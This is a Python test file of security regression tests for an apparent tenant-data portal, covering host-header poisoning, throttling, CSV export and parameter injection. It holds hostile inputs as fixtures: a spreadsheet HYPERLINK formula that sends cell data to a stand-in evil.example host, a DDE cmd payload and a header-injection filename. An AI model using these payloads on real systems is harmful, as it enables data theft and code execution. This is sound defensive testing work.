"""Issue 22, "what an attacker found": one test (at least) per finding, each failing
without its fix."""

from __future__ import annotations

import re
from pathlib import Path

from portal import mail
from tests import builders
from tests.builders import PASSWORD
from tests.conftest import build_app


def _people(app):
    """Who is who (tests/builders.estate), committed into an app the test built for itself."""
    with builders.committed(app) as s:
        return builders.estate(s)


# --- 1. Reset-link poisoning -----------------------------------------------------------

def test_a_forged_host_header_never_reaches_the_reset_link(tmp_path):
    app = build_app(tmp_path, "hostpoison", demo=False, PUBLIC_URL="https://portail.example.org")
    people = _people(app)
    client = app.test_client()
    client.post("/password/forgot", data={"email": people.tenant_account.email}, headers={"Host": "evil.example"})
    sent = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1]
    assert sent["To"] == people.tenant_account.email
    message = sent.get_content()
    assert "evil.example" not in message
    assert re.search(r"https://portail\.example\.org/password/reset/\S+", message)


def test_the_admins_choose_your_password_link_ignores_the_host_header(tmp_path):
    app = build_app(tmp_path, "hostpoison2", demo=False, PUBLIC_URL="https://portail.example.org")
    people = _people(app)
    client = app.test_client()
    evil = {"Host": "evil.example"}
    client.post("/login", data={"email": people.admin.email, "password": PASSWORD}, headers=evil)
    client.post("/admin/staff/new", headers=evil,
                data={"email": "new.person@example.org", "role": "admin", "display_name": "New Person"})
    message = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1]
    assert message["To"] == "new.person@example.org"
    assert "evil.example" not in message.get_content()
    assert "https://portail.example.org/password/reset/" in message.get_content()


def test_trusted_hosts_refuse_another_host(tmp_path):
    app = build_app(tmp_path, "trusted", demo=False, TRUSTED_HOSTS=["portail.example.org"])
    client = app.test_client()
    assert client.get("/login", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/login", headers={"Host": "portail.example.org"}).status_code == 200


# --- 6. Throttle behind a proxy, no lock a stranger can set off --------------------------

def test_behind_a_proxy_each_tenant_has_its_own_address(tmp_path):
    app = build_app(tmp_path, "proxied", demo=False, RATELIMIT_ENABLED=True, TRUSTED_PROXIES=1)
    people = _people(app)
    client = app.test_client()
    nginx = {"REMOTE_ADDR": "127.0.0.1"}
    for i in range(40):  # one attacker, behind the same nginx as everyone
        client.post("/login", data={"email": f"x{i}@example.org", "password": "wrong-guess-Xy!1"},
                    environ_base=nginx, headers={"X-Forwarded-For": "203.0.113.9"})
    other = app.test_client().post("/login", data={"email": people.tenant_account.email, "password": PASSWORD},
                                   environ_base=nginx, headers={"X-Forwarded-For": "198.51.100.7"})
    assert other.status_code == 302


def test_a_stranger_cannot_lock_someone_elses_account(throttled):
    owner_email = _people(throttled).tenant_account.email
    stranger = throttled.test_client()
    for i in range(25):
        stranger.post("/login", data={"email": owner_email, "password": f"guess-{i}-Xy!"},
                      environ_base={"REMOTE_ADDR": "203.0.113.50"})
    owner = throttled.test_client().post("/login", data={"email": owner_email, "password": PASSWORD},
                                         environ_base={"REMOTE_ADDR": "198.51.100.20"})
    assert owner.status_code == 302


def test_the_delay_grows_but_never_reaches_an_hour(throttled):
    from portal.web import throttle

    with throttled.app_context():
        guard = throttled.extensions[throttle.EXTENSION]
        delays = [guard.delay_after(n) for n in range(1, 40)]
    assert delays[:4] == [0, 0, 0, 0] and delays[4] == 60 and delays[5] == 120
    assert delays == sorted(delays) and max(delays) <= 15 * 60


# --- 3. Roles that read tenant data need the DPO's approval --------------------------------

def _login(client, email: str, password: str = PASSWORD):
    return client.post("/login", data={"email": email, "password": password})


def test_the_admin_cannot_give_himself_a_dpo_account(tmp_path):
    app = build_app(tmp_path, "fourEyes", demo=False)
    people = _people(app)
    admin = app.test_client()
    _login(admin, people.admin.email)
    admin.post("/admin/staff/new", data={"email": "it.guy@example.net", "role": "dpo", "display_name": "It Guy"})
    message = mail.read_outbox(Path(app.config["MAIL_OUTBOX"]))[-1].get_content()
    token = re.search(r"/password/reset/(\S+)", message).group(1)
    strong = "Velours-Lune-73-Brique?"
    app.test_client().post(f"/password/reset/{token}", data={"password": strong, "password_confirm": strong})
    rogue = app.test_client()
    assert _login(rogue, "it.guy@example.net", strong).status_code == 302
    someone = people.tenant.id
    assert rogue.get(f"/staff/tenants/{someone}").status_code == 403
    assert rogue.get("/staff/audit").status_code == 403
    assert rogue.get("/me/export.json").status_code in (302, 403, 404)
    # The DPO sees who waits, and approves: only then the role works.
    dpo = app.test_client()
    _login(dpo, people.dpo.email)
    page = dpo.get("/admin/approvals?lang=en").get_data(as_text=True)
    assert "it.guy@example.net" in page and "Data-protection officer" in page
    from portal.db import Database
    from portal.models import User
    from sqlalchemy import select

    with app.app_context():
        s = Database.state(app).factory()
        rogue_id = s.scalar(select(User.id).where(User.email == "it.guy@example.net"))
        s.close()
    assert rogue.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 403  # not himself
    assert dpo.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 302
    assert rogue.get(f"/staff/tenants/{someone}").status_code == 200


# --- 5. Spreadsheet formula injection ---------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78 =1+1", "-- à vérifier",
            "@SUM(1+1)", "\t=cmd|' /C calc'!A0", "'=already quoted", "-12.50")


def _tenant_with_notes(app, bodies) -> str:
    """A tenant with these notes, in an app the test built; the tenant's login e-mail."""
    with builders.committed(app) as s:
        someone, account = builders.tenant_with_account(s)
        for body in bodies:
            builders.note(s, someone, body)
        return account.email


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_no_cell_of_the_tenant_csv_export_is_a_live_formula(tmp_path):
    import io
    import zipfile

    app = build_app(tmp_path, "formulas", demo=False)
    email = _tenant_with_notes(app, FORMULAS)
    client = app.test_client()
    _login(client, email)
    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").data))
    cells = [c for name in archive.namelist() if name.endswith(".csv")
             for c in _cells(archive.read(name).decode("utf-8"))]
    live = [c for c in cells if c and c[0] in "=+-@\t\r" and not c.replace(".", "").lstrip("+-").isdigit()]
    assert live == []
    assert "'" + FORMULAS[0] in cells and "-12.50" in cells  # text kept, shown as text; numbers stay numbers


def test_export_csv_neutralises_formulas_and_import_reads_them_back_exactly(tmp_path):
    from sqlalchemy import select

    from portal.db import Database
    from portal.models import Note

    source = build_app(tmp_path, "formula_src", demo=False)
    _tenant_with_notes(source, FORMULAS)
    out = tmp_path / "export"
    assert source.test_cli_runner().invoke(args=["export-csv", str(out)]).exit_code == 0
    text = (out / "notes.csv").read_text(encoding="utf-8-sig")
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(("=", "@", "\t="))]
    assert "'" + FORMULAS[0] in cells
    target = build_app(tmp_path, "formula_dst", demo=False)
    result = target.test_cli_runner().invoke(args=["import", str(out)])
    assert result.exit_code == 0, result.output
    with target.app_context():
        s = Database.state(target).factory()
        bodies = set(s.scalars(select(Note.body)))
        s.close()
    # The importer trims spaces around every cell (spreadsheets add them): the tab goes.
    assert {f.strip() for f in FORMULAS} <= bodies


# --- 7. Odd numbers and dates get 400/404, never a 500 --------------------------------------

ODD = ("²", "٣", "99999999999999999999", "-1", "1e3", " 1", "0x10", "１")


def test_odd_page_numbers_and_ids_never_give_a_500(app, session):
    people = builders.estate(session)
    tenant, staff, dpo, admin = app.test_client(), app.test_client(), app.test_client(), app.test_client()
    _login(tenant, people.tenant_account.email)
    _login(staff, people.manager.email)
    _login(dpo, people.dpo.email)
    _login(admin, people.admin.email)
    for odd in ODD:
        for client, url in ((tenant, "/me"), (tenant, "/me/access-log"), (staff, "/staff/requests"),
                            (staff, "/staff/tenants"), (dpo, "/staff/audit")):
            assert client.get(url, query_string={"page": odd}).status_code == 200, (url, odd)
        assert dpo.get("/staff/audit", query_string={"staff": odd}).status_code == 200
        assert staff.get("/staff/requests", query_string={"assignee": odd}).status_code == 200
    for huge in ("99999999999999999999", "2147483648"):
        assert staff.get(f"/staff/tenants/{huge}").status_code == 404
        assert admin.get(f"/admin/staff/{huge}").status_code == 404
    assert staff.get(f"/staff/tenants/{people.tenant.id}").status_code == 200


def test_dates_at_the_ends_of_the_calendar_are_explained_not_crashed(app, session):
    dpo = app.test_client()
    _login(dpo, builders.account(session, "dpo").email)
    response = dpo.get("/staff/audit?lang=en&from=0001-01-01&to=9999-12-31")
    assert response.status_code == 200
    assert "The log holds dates from 1900 to 2199." in response.get_data(as_text=True)


def test_odd_ids_in_forms_are_refused_cleanly(app, session):
    people = builders.estate(session)
    waiting = builders.request(session, people.neighbour, kind="erasure", status="waiting_info",
                               asked="Quelles notes ?")
    reviewed = builders.note(session, people.neighbour, "Rappel envoyé.", review_status="kept")
    dpo = app.test_client()
    _login(dpo, people.dpo.email)
    for odd in ODD:
        for data in ({"action": "assign", "assignee": odd}, {"action": "grant", "targets": f"notes:{odd}"},
                     {"action": "tell_recipient", "notice_id": odd}):
            response = dpo.post(f"/staff/requests/{waiting.ref}", data=data)
            assert response.status_code < 500, (data, response.status_code)
        # " 1" may be read as note 1 (a clean redirect if it exists); the rest 400/404.
        assert dpo.post("/staff/notes/review", data={"action": "keep", "note_id": odd}).status_code in (
            302, 400, 404, 422)
    # An id that is a real, already reviewed note, written oddly: a clean answer too.
    assert dpo.post("/staff/notes/review", data={"action": "keep", "note_id": f" {reviewed.id}"}).status_code in (
        302, 400, 404, 422)
    tenant = app.test_client()
    _login(tenant, people.tenant_account.email)
    assert tenant.get("/me/requests/new?kind=rectification&field=contact.email&record=²").status_code == 200


def test_a_file_sent_in_a_text_field_is_refused_with_a_message(app, session):
    import io

    _someone, account = builders.tenant_with_account(session)
    tenant = app.test_client()
    _login(tenant, account.email)
    response = tenant.post("/me/requests/new?lang=en", content_type="multipart/form-data",
                           data={"kind": "access", "details": (io.BytesIO(b"MZ\x90\x00"), "evil.exe")})
    assert response.status_code == 400
    assert "This form takes text only" in response.get_data(as_text=True)


# --- 10. A caretaker sees technical incidents of their own buildings only ---------------------

def test_the_caretaker_does_not_see_an_incident_of_another_building_on_a_file(app, session):
    from datetime import date

    from portal.models import Incident

    people = builders.estate(session)
    # An incident of the other building (same portfolio), linked to the tenant's file.
    session.add(Incident(building_id=people.other_building.id, tenant_id=people.tenant.id, kind="technical",
                         reported_on=date(2026, 3, 2), title="Fuite chez le voisin du 5e", description="Témoin"))
    session.add(Incident(building_id=people.building.id, tenant_id=people.tenant.id, kind="technical",
                         reported_on=date(2026, 3, 3), title="Porte du hall bloquée", description="Témoin"))
    session.commit()
    caretaker, manager = app.test_client(), app.test_client()
    _login(caretaker, people.caretaker.email)
    _login(manager, people.manager.email)
    url = f"/staff/tenants/{people.tenant.id}?open=incidents"
    assert "Fuite chez le voisin" in manager.get(url).get_data(as_text=True)  # the manager's portfolio has both
    page = caretaker.get(url)
    assert page.status_code == 200 and "Fuite chez le voisin" not in page.get_data(as_text=True)
    assert "Porte du hall bloquée" in page.get_data(as_text=True)  # the caretaker's own building's


# --- 13. Content-Disposition cannot be steered by a tenant number ----------------------------

def test_a_tenant_number_cannot_add_a_header_parameter(app, session):
    from werkzeug.http import parse_options_header

    _someone, account = builders.tenant_with_account(session, tenant_number='LOC-9"; filename=evil.exe')
    client = app.test_client()
    _login(client, account.email)
    for url in ("/me/export.json", "/me/export.zip"):
        kind, options = parse_options_header(client.get(url).headers["Content-Disposition"])
        assert kind == "attachment"
        assert options["filename"].startswith("mes-donnees-LOC-9")  # her language is French
        assert "evil.exe" not in {options["filename"], options.get("filename*")} and len(options) == 1


# --- 8. "Forgotten password": throttled, and the same time whether the account exists -------

def test_forgotten_password_sends_at_most_three_mails_an_hour_to_one_address(tmp_path):
    throttled = build_app(tmp_path, "forgot_throttle", demo=False, RATELIMIT_ENABLED=True, FORGOT_MIN_SECONDS=0)
    email = _people(throttled).tenant_account.email
    client = throttled.test_client()
    for _ in range(20):
        response = client.post("/password/forgot?lang=en", data={"email": email})
        assert response.status_code in (200, 429)
    sent = [m for m in mail.read_outbox(Path(throttled.config["MAIL_OUTBOX"])) if m["To"] == email]
    assert len(sent) == 3
    assert client.post("/password/forgot", data={"email": "other@example.org"}).status_code == 429  # this client


def test_forgotten_password_answers_in_the_same_time_for_known_and_unknown_addresses(tmp_path):
    import statistics
    import time

    minimum = 0.3
    app = build_app(tmp_path, "forgot_timing", demo=False, FORGOT_MIN_SECONDS=minimum)
    email = _people(app).tenant_account.email
    client = app.test_client()

    def timed(address: str) -> float:
        start = time.perf_counter()
        client.post("/password/forgot", data={"email": address})
        return time.perf_counter() - start

    # interleaved, so that a change in the machine's load falls on both sides alike; the suite
    # runs its SQLite and PostgreSQL halves side by side on two cores, so the tolerance is a share
    # of the padded minimum (30 ms), not of a 150 ms answer (it failed once by 2 ms under that load)
    pairs = [(timed(email), timed("nobody-at-all@example.org")) for _ in range(9)]
    known = statistics.median(k for k, _ in pairs)
    unknown = statistics.median(u for _, u in pairs)
    assert min(known, unknown) >= minimum, (known, unknown)  # both answers are padded
    assert abs(known - unknown) < 0.1 * minimum, (known, unknown)


# --- 11 and 14. Two-factor: re-enrolment needs the current code; secrets encrypted at rest ---

def _enrol(client) -> tuple[str, list[str]]:
    import pyotp

    page = client.get("/account/two-factor?lang=en").get_data(as_text=True)
    secret = re.search(r'<code class="ref">([A-Z2-7]+)</code>', page).group(1)
    codes = client.post("/account/two-factor?lang=en", data={"code": pyotp.TOTP(secret).now()})
    return secret, re.findall(r'<code class="ref">([0-9a-f]{6}-[0-9a-f]{6})</code>', codes.get_data(as_text=True))


def test_re_enrolling_two_factor_needs_the_current_code(tmp_path):
    import pyotp
    from sqlalchemy import select

    from portal.accounts import twofactor
    from portal.db import Database
    from portal.models import User

    app = build_app(tmp_path, "reenrol", demo=False, REQUIRE_STAFF_2FA=True, DEMO_MODE=False)
    dpo_email = _people(app).dpo.email
    owner = app.test_client()
    _login(owner, dpo_email)
    secret, recovery = _enrol(owner)
    assert len(recovery) == 10
    with app.app_context():
        s = Database.state(app).factory()
        stored = s.scalar(select(User.totp_secret).where(User.email == dpo_email))
        s.close()
    assert secret not in stored  # encrypted at rest, with a key outside the database
    assert twofactor.unseal(app.config["TOTP_KEY"], stored) == secret
    # Someone at the open session tries to put their own phone in place.
    page = owner.get("/account/two-factor?lang=en").get_data(as_text=True)
    theirs = re.search(r'<code class="ref">([A-Z2-7]+)</code>', page).group(1)
    refused = owner.post("/account/two-factor?lang=en", data={"code": pyotp.TOTP(theirs).now(), "current_code": "000000"})
    assert refused.status_code == 200 and "not a valid code of your current app" in refused.get_data(as_text=True)
    missing = owner.post("/account/two-factor?lang=en", data={"code": pyotp.TOTP(theirs).now()})
    assert "Enter the code your current app shows now." in missing.get_data(as_text=True)
    with app.app_context():
        s = Database.state(app).factory()
        assert s.scalar(select(User.totp_secret).where(User.email == dpo_email)) == stored
        s.close()
    ok = owner.post("/account/two-factor?lang=en", data={"code": pyotp.TOTP(theirs).now(), "current_code": recovery[0]})
    assert len(re.findall(r'<code class="ref">([0-9a-f]{6}-[0-9a-f]{6})</code>', ok.get_data(as_text=True))) == 10


# --- 14. Logout, cross-site reads, received dates, the database file ----------------------------

def test_a_link_from_another_site_neither_logs_out_nor_reads_a_file(app, session):
    people = builders.estate(session)
    staff = app.test_client()
    _login(staff, people.manager.email)
    url = f"/staff/tenants/{people.tenant.id}"
    forged = staff.get(url + "?lang=en", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
    assert forged.status_code == 403 and "Open this page from the portal" in forged.get_data(as_text=True)
    assert staff.get(url, headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
    assert staff.get("/logout").status_code == 200  # a question, not a logout
    assert staff.get(url).status_code == 200
    assert staff.post("/logout").status_code == 302
    assert staff.get(url).status_code == 302


def test_a_request_cannot_be_registered_as_received_in_1900(app, session):
    someone = builders.tenant(session)
    dpo = app.test_client()
    _login(dpo, builders.account(session, "dpo").email)
    response = dpo.post("/staff/requests/register?lang=en", data={
        "tenant_number": someone.tenant_number, "kind": "access", "channel": "post", "details": "Lettre reçue",
        "received_on": "1900-01-01", "identity_verified": "y"})
    assert response.status_code in (200, 400, 422)
    assert "cannot be more than a year ago" in response.get_data(as_text=True)


def test_the_sqlite_database_file_is_readable_by_its_owner_only(tmp_path, monkeypatch):
    from portal import create_app

    monkeypatch.setenv("PORTAL_INSTANCE_PATH", str(tmp_path / "instance"))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    create_app({"TESTING": True})
    assert (tmp_path / "instance" / "portal.db").stat().st_mode & 0o077 == 0


# --- 12. A staff preview of an access letter is a read of the whole file --------------------

def test_previewing_an_access_letter_shows_as_a_read_of_the_file_in_the_tenants_language(app, session):
    someone, account = builders.tenant_with_account(session)
    req = builders.request(session, someone, kind="access", status="in_progress")
    dpo = app.test_client()
    _login(dpo, builders.account(session, "dpo").email)
    assert dpo.get(f"/staff/requests/{req.ref}/letter-preview.pdf?kind=granted").status_code == 200
    tenant = app.test_client()
    _login(tenant, account.email)
    page = tenant.get("/me/access-log?lang=fr").get_data(as_text=True)
    newest = page.split("<li>")[1].split("</li>")[0]
    assert "Réponse à une demande RGPD" in newest and "Preview of a response letter" not in page
    assert "Correspondance" in newest and "Mes demandes" in newest  # the whole file, not "Mes demandes" alone


# --- 9. Access logs carry no token, search term or letter text ------------------------------

def test_the_dev_server_access_line_has_no_query_and_no_token(app, caplog):
    import logging

    from portal.web.accesslog import ScrubFilter

    logger = logging.getLogger("werkzeug")
    assert any(isinstance(f, ScrubFilter) for f in logger.filters)  # installed by create_app
    # What werkzeug's request handler logs for each request (serving.log_request).
    record = logging.LogRecord("werkzeug", logging.INFO, __file__, 1, '127.0.0.1 - - [x] "%s" %s %s',
                               ("GET /password/reset/s3cr3t-T0ken?q=Martin HTTP/1.1", "200", "-"), None)
    ScrubFilter().filter(record)
    line = record.getMessage()
    assert "s3cr3t" not in line and "Martin" not in line and "/password/reset/***" in line


def test_the_gunicorn_access_line_has_no_query_and_no_token():
    from datetime import timedelta
    from types import SimpleNamespace

    from gunicorn.config import Config

    from portal.web.accesslog import ScrubbedGunicornLogger

    logger = ScrubbedGunicornLogger(Config())
    environ = {"REQUEST_METHOD": "GET", "RAW_URI": "/staff/tenants?q=Benali", "SERVER_PROTOCOL": "HTTP/1.1",
               "PATH_INFO": "/confirm-email/live-token-123", "QUERY_STRING": "q=Benali",
               "HTTP_REFERER": "https://portail.example.org/password/reset/other-token"}
    atoms = logger.atoms(SimpleNamespace(status="200 OK", sent=10, headers=[]),
                         SimpleNamespace(headers=[]), environ,
                         timedelta(milliseconds=5))
    text = " ".join(str(v) for v in atoms.values())
    assert "Benali" not in text and "live-token" not in text and "other-token" not in text
